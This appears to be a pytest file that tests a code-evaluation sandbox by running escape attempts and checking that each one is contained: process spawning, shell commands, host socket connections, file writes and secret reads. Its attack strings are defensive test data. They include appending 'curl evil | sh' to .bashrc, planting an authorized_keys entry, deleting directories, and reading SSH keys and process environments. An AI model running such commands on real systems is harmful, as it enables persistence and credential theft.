"""Adversarial programs against the sandbox's walls (processes, network, files, reads): each fails, the host
is unchanged. Signals, lifetimes and resource limits are in ``test_sandbox_limits.py``.

Each attack is a candidate function ``attack()``; the trusted tests (run here) pass only if the attack
reached the host: a file written here, a connection to a listener here, a secret read from here. Where
it is harmless, the same attack also runs without isolation (``TRL_LIFT_SANDBOX=unsafe-fallback``) and
passes there, so no test can pass because its attack was broken.
"""

import os
import secrets
import socket
import sys
import threading
import time
from pathlib import Path

import pytest
from _sandbox_attacks import ROOT, attack, host_snapshot, requires_isolation, unprotected

from trl_lift.evaluation.sandbox import Sandbox
from trl_lift.evaluation.sandbox.launcher import SANDBOX_UID

pytestmark = requires_isolation


@pytest.fixture
def unsandboxed(monkeypatch):
    return unprotected(monkeypatch)


# -- the sandbox itself ---------------------------------------------------------------------------


def test_the_worker_is_confined_and_unprivileged_as_seen_from_the_host():
    with Sandbox() as box:
        assert box.status["uid"] == SANDBOX_UID and box.status["pid"] == 1  # init of its own PID namespace
        assert (box.status["CapEff"], box.status["NoNewPrivs"], box.status["Seccomp"]) == ("0" * 16, "1", "2")
        host_view = Path(f"/proc/{box._process.inner_pid}/status").read_text()
        uid_line = next(line for line in host_view.splitlines() if line.startswith("Uid:"))
        expected = SANDBOX_UID if os.geteuid() == 0 else os.geteuid()  # never root outside
        assert uid_line.split()[1:] == [str(expected)] * 4
        for kind in ("net", "pid", "mnt", "user", "ipc", "uts"):
            assert os.readlink(f"/proc/{box._process.inner_pid}/ns/{kind}") != os.readlink(f"/proc/self/ns/{kind}")
        probe = (
            "import os, socket\n"
            "def probe():\n"
            "    mounts = sorted({line.split()[1] for line in open('/proc/self/mounts')})\n"
            "    nets = sorted(line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:])\n"
            "    pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
            "    return socket.gethostname(), nets, mounts, sorted(os.listdir('/')), pids\n"
        )
        box.execute(probe, deadline=time.monotonic() + 10)
        hostname, nets, mounts, top, pids = box.call("probe", (), {}, deadline=time.monotonic() + 10)
    assert hostname == "sandbox" and nets == ["lo"] and pids == ["1"]  # only itself: no host process to see
    allowed = {"dev", "etc", "proc", "tmp", "usr", "lib", "lib32", "lib64", "libx32", Path(sys.base_prefix).parts[1]}
    assert set(top) <= allowed and {"dev", "proc", "tmp"} <= set(top)
    assert not any(m.startswith(("/work", "/home", "/root/.ssh", "/root/.cache", str(ROOT))) for m in mounts)


def test_seccomp_denies_namespaces_mounts_tracing_and_kernel_interfaces():
    body = """
    libc = ctypes.CDLL(None, use_errno=True)
    def errno_of(call, *args):
        ctypes.set_errno(0)
        return ctypes.get_errno() if call(*args) == -1 else 0
    return {
        "unshare(NEWUSER)": errno_of(libc.unshare, 0x10000000),
        "unshare(NEWNET)": errno_of(libc.unshare, 0x40000000),
        "mount": errno_of(libc.mount, b"none", b"/tmp", b"tmpfs", 0, None),
        "ptrace(ATTACH, 1)": errno_of(libc.ptrace, 16, 1, None, None),
        "keyctl": errno_of(libc.syscall, 250, 0, 0, 0, 0),
        "bpf": errno_of(libc.syscall, 321, 0, 0, 0),
        "io_uring_setup": errno_of(libc.syscall, 425, 1, None),
        "socket(AF_INET)": errno_of(libc.socket, 2, 1, 0),
        "clone3": errno_of(libc.syscall, 435, None, 0),
    }
    """
    expected = {"socket(AF_INET)": 97, "clone3": 38}  # EAFNOSUPPORT, ENOSYS; the rest EPERM
    names = ["unshare(NEWUSER)", "unshare(NEWNET)", "mount", "ptrace(ATTACH, 1)", "keyctl", "bpf", "io_uring_setup"]
    expected.update({name: 1 for name in names})
    result = attack(body, f"assert attack() == {expected!r}, attack()\n")
    assert result.passed, result.reason  # here passing means: every one of them was denied


# -- starting processes by interfaces that raise no audit event -----------------------------------

CHILD = "open('marker', 'w').write('ran'); open({target!r}, 'w').write('escaped')"
SPAWNERS = {
    "os.posix_spawn": "os.waitpid(os.posix_spawn(sys.executable, [sys.executable, '-c', CHILD], {}), 0)",
    "subprocess": "subprocess.run([sys.executable, '-c', CHILD])",
    "os.fork + os.execv": (
        "pid = os.fork()\nif pid == 0:\n    os.execv(sys.executable, [sys.executable, '-c', CHILD])\nos.waitpid(pid, 0)"
    ),
    "ctypes fork + execv": (
        "libc = ctypes.CDLL(None)\npid = libc.fork()\nif pid == 0:\n"
        "    argv = (ctypes.c_char_p * 4)(sys.executable.encode(), b'-c', CHILD.encode(), None)\n"
        "    libc.execv(sys.executable.encode(), argv)\n    libc._exit(127)\nos.waitpid(pid, 0)"
    ),
}
SHELLS = {
    "subprocess shell=True": "subprocess.run(COMMAND, shell=True)",
    "os.system": "os.system(COMMAND)",
    "ctypes libc.system": "ctypes.CDLL(None).system(COMMAND.encode())",
    "os.popen": "os.popen(COMMAND).read()",
}


@pytest.mark.parametrize("spawner", SPAWNERS)
def test_child_processes_run_but_stay_inside(spawner, tmp_path, unsandboxed):
    target = tmp_path / "escaped.txt"
    body = f"CHILD = {CHILD.format(target=str(target))!r}\n{SPAWNERS[spawner]}\nreturn open('marker').read()"
    tests = f"assert attack() == 'ran', 'the child did not run'\nassert os.path.exists({str(target)!r}), 'no escape'\n"
    result = attack(body, tests)
    assert (result.passed, result.reason) == (False, "AssertionError: no escape")  # it ran, inside only
    assert not target.exists()
    assert unsandboxed(body, tests).passed and target.read_text() == "escaped"


@pytest.mark.parametrize("shell", SHELLS)
def test_shell_commands_do_not_reach_the_host(shell, tmp_path, unsandboxed):
    target = tmp_path / "escaped.txt"
    body = f"COMMAND = 'echo escaped > {target}'\n{SHELLS[shell]}"
    tests = f"attack()\nassert os.path.exists({str(target)!r}), 'no escape'\n"
    result = attack(body, tests)
    assert not result.passed and not target.exists()
    assert unsandboxed(body, tests).passed and target.read_text() == "escaped\n"


# -- the network, from the worker and from its children --------------------------------------------


@pytest.fixture
def listener():
    """A TCP server on the host's loopback that records what reaches it."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except (TimeoutError, OSError):
                continue
            with connection:
                received.append(connection.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


CONNECT = "import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=2); s.sendall(b'escaped')"


@pytest.mark.parametrize("route", ["worker", "posix_spawn child", "shell child"])
def test_the_hosts_loopback_is_unreachable(route, listener, unsandboxed):
    port, received = listener
    body = (
        f"CONNECT = {CONNECT.format(port=port)!r}\n"
        + {
            "worker": "exec(CONNECT)\nreturn 0",
            "posix_spawn child": "pid = os.posix_spawn(sys.executable, [sys.executable, '-c', CONNECT], {})\n"
            "return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])",
            "shell child": "return os.waitstatus_to_exitcode(os.system(sys.executable + ' -c \"' + CONNECT + '\"'))",
        }[route]
    )
    result = attack(body, "assert attack() == 0, 'no connection'\n")
    assert not result.passed and received == []
    assert unsandboxed(body, "assert attack() == 0, 'no connection'\n").passed
    time.sleep(0.3)
    assert received == [b"escaped"]


def test_host_unix_sockets_are_unreachable(tmp_path):
    abstract = f"\0trl_lift_test_{secrets.token_hex(4)}"
    with socket.socket(socket.AF_UNIX) as named, socket.socket(socket.AF_UNIX) as unnamed:
        named.bind(str(tmp_path / "sock"))
        unnamed.bind(abstract)
        for server in (named, unnamed):
            server.listen()
            server.settimeout(0.2)
        for address in (str(tmp_path / "sock"), abstract):
            body = f"s = socket.socket(socket.AF_UNIX)\ns.connect({address!r})\nreturn 'connected'"
            result = attack(body, "assert attack() == 'connected'\n")
            assert not result.passed
            assert result.reason.startswith(("FileNotFoundError", "ConnectionRefusedError"))
        for server in (named, unnamed):
            with pytest.raises(TimeoutError):
                server.accept()


# -- writing outside: every file-system interface --------------------------------------------------


def contents_of(folder: Path) -> dict:
    return {str(p): p.read_bytes() for p in folder.rglob("*") if p.is_file() and not p.is_symlink()}


DIR_FD = "d = os.open(D, os.O_RDONLY | os.O_DIRECTORY)\n"
WRITES = {
    "os.open O_CREAT": "os.close(os.open(D + '/new.txt', os.O_CREAT | os.O_WRONLY))",
    "dir_fd create": f"{DIR_FD}os.close(os.open('new.txt', os.O_CREAT | os.O_WRONLY, dir_fd=d))",
    "dir_fd unlink": f"{DIR_FD}os.unlink('keep.txt', dir_fd=d)",
    "dir_fd rename": f"{DIR_FD}os.rename('keep.txt', 'moved.txt', src_dir_fd=d, dst_dir_fd=d)",
    "ftruncate": "os.ftruncate(os.open(D + '/keep.txt', os.O_RDWR), 0)",
    "fchmod": "os.fchmod(os.open(D + '/keep.txt', os.O_RDONLY), 0o777)",
    "utime": "os.utime(D + '/keep.txt', (0, 0))",
    "sqlite": "db = sqlite3.connect(D + '/db.sqlite')\ndb.execute('create table t (x)')\ndb.commit()",
    "mkfifo": "os.mkfifo(D + '/fifo')",
    "symlink": "os.symlink('/etc/passwd', D + '/link')",
    "hard link": "os.link(D + '/keep.txt', D + '/hard')",
    "rmtree": "shutil.rmtree(D)",
    "home dotfile": "open(D + '/home/.bashrc', 'a').write('curl evil | sh')",
    "home ssh key": (
        "os.makedirs(D + '/home/.ssh', exist_ok=True)\n"
        "open(D + '/home/.ssh/authorized_keys', 'w').write('ssh-ed25519 evil')"
    ),
}


@pytest.mark.parametrize("write", WRITES)
def test_writes_outside_change_nothing(write, tmp_path, unsandboxed):
    (tmp_path / "keep.txt").write_text("data")
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".bashrc").write_text("# mine\n")
    before, contents = host_snapshot(str(tmp_path)), contents_of(tmp_path)
    body = f"D = {str(tmp_path)!r}\n{WRITES[write]}\nreturn 'done'"
    tests = f"attack()\nassert snapshot({str(tmp_path)!r}) != {before!r}, 'nothing changed outside'\n"
    result = attack(body, tests)
    assert not result.passed
    assert host_snapshot(str(tmp_path)) == before and contents_of(tmp_path) == contents
    assert unsandboxed(body, tests).passed  # the attack does change the host when nothing stops it


@pytest.mark.parametrize("where", ["stdlib", "system libraries", "/", "/dev", "/etc"])
def test_the_visible_system_files_are_read_only(where):
    folder = {"stdlib": os.path.dirname(os.__file__), "system libraries": "/usr/lib", "/": "/", "/dev": "/dev",
              "/etc": "/etc"}[where]  # fmt: skip
    probe = os.path.join(folder, f"trl_lift_probe_{secrets.token_hex(4)}")
    try:
        result = attack(f"open({probe!r}, 'w').write('x')\nreturn 'written'", "assert attack() == 'written'\n")
        assert not result.passed and ("Read-only file system" in result.reason or "Permission denied" in result.reason)
        assert not os.path.exists(probe)
    finally:
        if os.path.exists(probe):
            os.remove(probe)


def test_the_private_tmp_is_writable_and_gone_afterwards():
    name = f"trl_lift_probe_{secrets.token_hex(4)}"
    body = f"open('/tmp/{name}', 'w').write('x')\nos.mkfifo('fifo')\nreturn sorted(os.listdir('.'))"
    assert attack(body, f"assert attack() == ['fifo', {name!r}]\n").passed
    assert not os.path.exists(f"/tmp/{name}")  # the host's /tmp never saw it


# -- reading what is not the sandbox's ------------------------------------------------------------


def test_the_users_home_keys_project_and_environment_are_unreadable(tmp_path, monkeypatch, unsandboxed):
    secret = secrets.token_hex(16)
    key = tmp_path / "home" / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True)
    key.write_text(secret)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("TRL_LIFT_TEST_SECRET", secret)
    reads = {
        "key by path": f"return open({str(key)!r}).read()",
        "key by ~": "return open(os.path.expanduser('~/.ssh/id_ed25519')).read()",
        "environment": "return os.environ.get('TRL_LIFT_TEST_SECRET', '')",
        "evaluator's environment": f"return open('/proc/{os.getpid()}/environ').read()",
    }
    for name, body in reads.items():
        result = attack(body, f"assert {secret!r} in attack(), 'nothing read'\n")
        assert not result.passed and secret not in result.output, name
    assert unsandboxed(reads["key by path"], f"assert attack() == {secret!r}\n").passed
    for folder in ("/root", str(Path.home()), str(ROOT), "/work", "/home", "/etc"):
        if os.path.isdir(folder) and os.listdir(folder):
            listing = sorted(os.listdir(folder))
            result = attack(f"return sorted(os.listdir({folder!r}))", f"assert attack() == {listing!r}\n")
            assert not result.passed, folder  # absent, or (/root, /etc) holding only what Python needs
